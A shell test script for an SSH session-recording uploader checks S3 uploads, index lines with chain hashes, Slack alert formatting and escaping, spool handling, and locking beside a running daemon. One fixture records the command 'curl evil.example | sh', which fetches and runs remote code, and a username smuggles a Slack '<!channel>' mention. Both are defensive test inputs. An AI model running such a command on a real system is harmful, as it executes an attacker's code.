#!/bin/sh
# tollgate-uploader --once against a real S3 server (SigV4 checked) and a
# Slack receiver that enforces Slack's payload rules: recordings (one large
# enough for multipart) and events arrive byte-identical, the index lines
# carry the final chain hash, the logout message names the S3 location and
# the hash, a logout without a recording raises "login with no recording",
# and the spool is empty afterwards.
set -u
. "$TG_TOP_SRCDIR/tests/lib.sh"
. "$TG_TOP_SRCDIR/tests/uploader_lib.sh"

up_setup "recording_grace = 0"

SID_A=0123456789abcdef0123456789abcdef
SID_B=fedcba9876543210fedcba9876543210
up_rec a.tgr user=alice pam=$SID_A bytes=5000
up_rec big.tgr user=bob bytes=12000000
up_rec c.tgr user='eve<!channel>' bytes=100
SID_L=11112222333344445555666677778888
up_rec long.tgr user=lena pam=$SID_L bytes=100 "command=echo $(head -c 2000 /dev/zero | tr '\0' a); curl evil.example | sh"
i=0
while [ $i -lt 10 ]; do
	up_rec "small$i.tgr" user=carol bytes=$((i * 300 + 1))
	i=$((i + 1))
done
up_event 1 login '"user":"alice","client_addr":"192.0.2.7","client_port":50000,"tty":"ssh","service":"sshd","pid":1,"session_id":"'$SID_A'","mfa_method":"totp"'
up_event 2 mfa_failure '"user":"mallory","client_addr":"198.51.100.9","service":"sshd","reason":"bad_code"'
up_event 3 mfa_replay '"user":"alice","client_addr":"198.51.100.9","service":"sshd"'
up_event 4 logout '"user":"alice","client_addr":"192.0.2.7","client_port":50000,"tty":"ssh","service":"sshd","pid":1,"session_id":"'$SID_A'","mfa_method":"totp","duration_us":65000000'
up_event 5 login '"user":"bob","client_addr":"192.0.2.8","client_port":50001,"tty":"ssh","service":"sshd","pid":2,"session_id":"'$SID_B'","mfa_method":"totp"'
up_event 6 logout '"user":"bob","client_addr":"192.0.2.8","client_port":50001,"tty":"ssh","service":"sshd","pid":2,"session_id":"'$SID_B'","mfa_method":"totp","duration_us":1000'
up_event 7 recording_escape '"user":"eve","session_id":"'$SID_B'","reason":"bashrc"'

rc=0
"$UPLOADER" -c "$T/tollgate.conf" --once >"$T/uploader.log" 2>&1 || rc=$?
cat "$T/uploader.log"
# the no_recording alert was raised during the pass: a second pass sends it
"$UPLOADER" -c "$T/tollgate.conf" --once >>"$T/uploader.log" 2>&1 || rc=$?
[ $rc -eq 0 ] || tg_fail "--once said something is left (exit $rc)"
[ "$(up_spool_left)" -eq 0 ] || tg_fail "the spool is not empty"
up_check_s3

# the index line of a.tgr: one JSON object with its final chain hash
idx=$(up_s3_objects tollgate/index | xargs grep -l '"pam_session_id":"'$SID_A'"') || tg_fail "no index line for a.tgr"
python3 - "$idx" <<'EOF' || tg_fail "index line"
import json, sys
lines = open(sys.argv[1]).read().splitlines()
assert len(lines) == 1, lines
o = json.loads(lines[0])
assert o["user"] == "alice" and o["sealed"] is True and len(o["final_hash"]) == 64, o
assert o["s3_key"].startswith("tollgate/dt=") and "/host=testhost/alice/" in o["s3_key"], o
assert o["command_truncated"] is False, o
EOF
# a command longer than the index holds is cut there, and the line says so
idx_l=$(up_s3_objects tollgate/index | xargs grep -l '"pam_session_id":"'$SID_L'"') || tg_fail "no index line for long.tgr"
python3 - "$idx_l" <<'EOF' || tg_fail "index line of a long command"
import json, sys
o = json.loads(open(sys.argv[1]).read())
assert o["command"].startswith("echo aaa") and len(o["command"]) == 1023, o["command"][-40:]
assert o["command_truncated"] is True, o
EOF
hash=$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["final_hash"])' "$idx")

up_messages >"$T/messages"
python3 - "$T/messages" "$hash" <<'EOF' || tg_fail "Slack messages"
import json, sys
msgs = [json.loads(l) for l in open(sys.argv[1])]
heads = [m["blocks"][0]["text"]["text"] for m in msgs]
print("\n".join(heads))
want = ["SSH login: alice@testhost", "MFA failure: mallory@testhost", "Replayed MFA code",
        "SSH logout: alice@testhost", "SSH login: bob@testhost", "SSH logout: bob@testhost",
        "Recording escape attempt: eve@testhost"]
got = iter(heads)
for w in want:
    assert any(h.startswith(w) for h in got), "missing or out of order: " + w
logout = msgs[[i for i, h in enumerate(heads) if h.startswith("SSH logout: alice")][0]]
assert sys.argv[2] in logout["text"], "final hash not in the logout text"
assert "s3://tollgate-test/tollgate/dt=" in logout["text"] and "1m 05s" in logout["text"], logout["text"]
bob = msgs[[i for i, h in enumerate(heads) if h.startswith("SSH logout: bob")][0]]
assert "no recording" in bob["text"], bob["text"]
n = sum("no_recording" in h for h in heads)
assert n == 1, "%d 'login with no recording' alerts for one login, want exactly 1" % n
for m in msgs:
    assert "<!channel>" not in json.dumps(m), "unescaped mention"
EOF

# status: every queue empty, S3 and Slack have sent
"$UPLOADER" -c "$T/tollgate.conf" status >"$T/status" || tg_fail "status says something waits"
cat "$T/status"
grep -q '^recordings  *0 ' "$T/status" || tg_fail "status: recordings"
grep -q 'last error *none' "$T/status" || tg_fail "status: last error"
# an event too large to be one is kept and alerted on; the events behind it go on
big=$(printf '%020d-%016x.json' "$(( $(date +%s) * 1000000 + 50 ))" 50)
python3 -c 'import sys; sys.stdout.write("{\"type\":\"login\",\"pad\":\"" + "x" * 70000 + "\"}")' \
	>"$T/spool/events/$big"
up_event 51 mfa_failure '"user":"after","client_addr":"192.0.2.1","service":"sshd","reason":"bad_code"'
rc=0
"$UPLOADER" -c "$T/tollgate.conf" --once >>"$T/uploader.log" 2>&1 || rc=$?
[ $rc -eq 1 ] || tg_fail "--once with a stuck event: exit $rc, wanted 1"
[ -f "$T/spool/events/$big" ] || tg_fail "the oversized event left the spool"
up_message_heads | grep -q 'MFA failure: after@testhost' || tg_fail "the event behind the oversized one did not go out"
up_message_heads | grep -q 'Tollgate alert on testhost: bad_event' || tg_fail "no bad_event alert"
rm -f "$T/spool/events/$big"

# a logout kept for over a week (Slack gone for that long) still finds its recording: the
# join record is not pruned by age while an older event waits
[ -f "$T/spool/state/sessions/$SID_A.json" ] || tg_fail "no join record for a.tgr"
touch -d '8 days ago' "$T/spool/state/sessions/$SID_A.json"
UP_EVENT_SEC=$(( $(date +%s) - 8 * 86400 )) up_event 60 logout '"user":"alice","client_addr":"192.0.2.7","client_port":50000,"tty":"ssh","service":"sshd","pid":1,"session_id":"'$SID_A'","mfa_method":"totp","duration_us":2000000'
"$UPLOADER" -c "$T/tollgate.conf" --once >>"$T/uploader.log" 2>&1 || tg_fail "--once with a week-old logout"
up_messages | tail -1 >"$T/late-logout"
grep -q 'SSH logout: alice@testhost' "$T/late-logout" || tg_fail "the week-old logout was not posted: $(cat "$T/late-logout")"
grep -q "$hash" "$T/late-logout" || tg_fail "the week-old logout lost its recording: $(cat "$T/late-logout")"
grep -q 'no recording' "$T/late-logout" && tg_fail "the week-old logout says no recording"

# [s3] index_prefix empty: the recording goes up, no index object does
before=$(up_s3_objects . | wc -l)
grep -q '^index_prefix' "$T/tollgate.conf" && tg_fail "the test config sets index_prefix already"
sed -i 's/^\[s3\]$/[s3]\nindex_prefix =/' "$T/tollgate.conf"
grep -q '^index_prefix =$' "$T/tollgate.conf" || tg_fail "no [s3] section to turn the index off in"
up_rec noindex.tgr user=carol bytes=3000
"$UPLOADER" -c "$T/tollgate.conf" --once >>"$T/uploader.log" 2>&1 || tg_fail "--once with index_prefix empty"
[ ! -e "$T/spool/sessions/noindex.tgr" ] || tg_fail "the recording was not shipped without an index"
[ -n "$(up_s3_objects tollgate | while read -r o; do cmp -s "$o" "$T/orig/noindex.tgr" && echo "$o"; done)" ] ||
	tg_fail "noindex.tgr is not in S3"
[ "$(up_s3_objects . | wc -l)" -eq $((before + 1)) ] || tg_fail "more than the recording was written with index_prefix empty"

# --once by hand (as the man page shows) while the daemon works on the spool: said at once,
# exit 2; it waited 30 s in silence first (the wait for a killed daemon's workers to die)
up_start
daemon_holds_spool() { "$UPLOADER" -c "$T/tollgate.conf" status 2>/dev/null | grep -q '^spool .*: daemon running$'; }
up_wait_until 20 "the daemon did not take the spool" daemon_holds_spool
# Counted, not timed: its tries of the lock (strace), a daemon's 300 (30 s) where --once
# makes 20; timeout only keeps a hung run from hanging the suite
rc=0
if command -v strace >/dev/null 2>&1; then
	timeout 120 strace -f -qq -c -o "$T/once-busy.strace" -e trace=flock \
		"$UPLOADER" -c "$T/tollgate.conf" --once >"$T/once-busy.log" 2>&1 || rc=$?
	tries=$(awk '$NF == "flock" { print $4 }' "$T/once-busy.strace")
	echo "--once tried the lock ${tries:-0} times"
	[ "${tries:-0}" -lt 100 ] || tg_fail "--once tried the running daemon's lock $tries times, as long as a daemon"
else
	echo "no strace: the tries of the lock are not counted" >&2
	timeout 120 "$UPLOADER" -c "$T/tollgate.conf" --once >"$T/once-busy.log" 2>&1 || rc=$?
fi
cat "$T/once-busy.log"
[ $rc -ne 124 ] || tg_fail "--once did not end beside the running daemon"
[ $rc -eq 2 ] || tg_fail "--once beside a running daemon exited $rc, not 2"
grep -q "another tollgate-uploader works on $T/spool" "$T/once-busy.log" ||
	tg_fail "--once beside a running daemon does not say why it stops"
tg_stop_pid "$UP_PID"
UP_PID=
echo "PASS"
